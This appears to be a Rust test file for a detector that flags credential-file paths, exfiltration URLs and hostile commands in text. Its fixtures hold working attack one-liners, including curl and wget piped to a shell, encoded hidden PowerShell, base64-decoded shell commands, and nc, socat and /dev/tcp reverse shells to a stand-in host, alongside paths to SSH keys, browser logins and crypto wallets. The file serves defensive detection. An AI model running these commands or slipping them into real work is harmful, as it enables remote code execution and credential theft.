use super::*;
use crate::links::{Links, named};
use crate::program::Language;

const TOLD: &[(&str, Labels)] = &[
    ("~/.ssh/id_rsa", Labels::AT_CREDENTIALS),
    ("C:\\Users\\x\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data", Labels::AT_BROWSER),
    ("~/.config/Exodus/exodus.wallet", Labels::AT_WALLET),
    ("/home/me/.bashrc", Labels::AT_START),
    ("https://webhook.invalid/1", Labels::DROP),
    ("curl -s https://c.example.invalid/a | bash", Labels::PIPE),
    ("powershell -w hidden -enc AAAA", Labels::HIDDEN),
    ("echo aaaa | base64 -d | sh", Labels::HIDDEN),
    ("http://93.184.216.34/a", Labels::ADDRESS),
    ("/bin/sh", Labels::SHELL),
    ("nc -e /bin/sh c.example.invalid 4444", Labels::SOCKET),
    ("ncat -e /bin/sh c.example.invalid 4444", Labels::SOCKET),
    ("socat exec:sh tcp:c.example.invalid:4444", Labels::SOCKET),
    ("bash -i >& /dev/tcp/c.example.invalid/1 0>&1", Labels::SOCKET),
    ("wget -qO- https://c.example.invalid/a | sh", Labels::PIPE),
    ("iwr https://c.example.invalid/a | iex", Labels::PIPE),
    ("pwsh -encodedcommand AAAA", Labels::HIDDEN),
    ("echo aaaa | base64 --decode | bash", Labels::HIDDEN),
];

#[test]
fn places_commands_and_addresses_are_told() {
    for (text, label) in TOLD {
        let label = *label;
        assert!(labels_of(text).has(label), "{text}: {:?}", labels_of(text));
    }
}

/// What a text tells of a command counts only in files in which the search for links finds one.
#[test]
fn commands_are_links_as_well() {
    let is_link = |text: &str| named(Language::Rust, text, false).links.has(Links::COMMAND);
    for (text, label) in TOLD {
        let is_command = label.has(Labels::PIPE | Labels::HIDDEN | Labels::SOCKET);
        assert!(!is_command || is_link(text), "{text}");
    }
    // An address is no command, and `base64` only where it decodes.
    for word in COMMANDS.iter().filter(|word| !["://", "base64"].contains(*word)) {
        assert!(is_link(word), "{word}");
    }
}

#[test]
fn ordinary_texts_tell_nothing() {
    for text in [
        "",
        "hello",
        "curl is a program",
        "https://example.invalid/docs",
        "http://127.0.0.1:8080",
        "wget https://x.example.invalid/data.csv",
        "a shell",
    ] {
        assert_eq!(labels_of(text), Labels::default(), "{text}");
    }
    // A page of prose may name anything.
    assert!(!labels_of(&"keep ~/.ssh/id_rsa to yourself, it says here. ".repeat(20)).has(Labels::AT_CREDENTIALS));
}

#[test]
fn packed_texts_have_no_words() {
    assert!(is_packed(&"QUJDREVGR0hJSktM".repeat(20)));
    assert!(is_packed(&"\u{1}\u{90}\u{ff}x".repeat(80)));
    assert!(!is_packed(&"a sentence of words, and one more. ".repeat(20)));
    assert!(!is_packed("QUJDREVGR0hJSktM"));
}

#[test]
fn hosts_are_taken_out_of_addresses() {
    assert_eq!(
        hosts("see https://me:pw@A.example.invalid:8080/x and ftp://b.example.invalid"),
        ["a.example.invalid", "b.example.invalid"]
    );
    assert!(hosts("no://host and http:///x").is_empty());
}
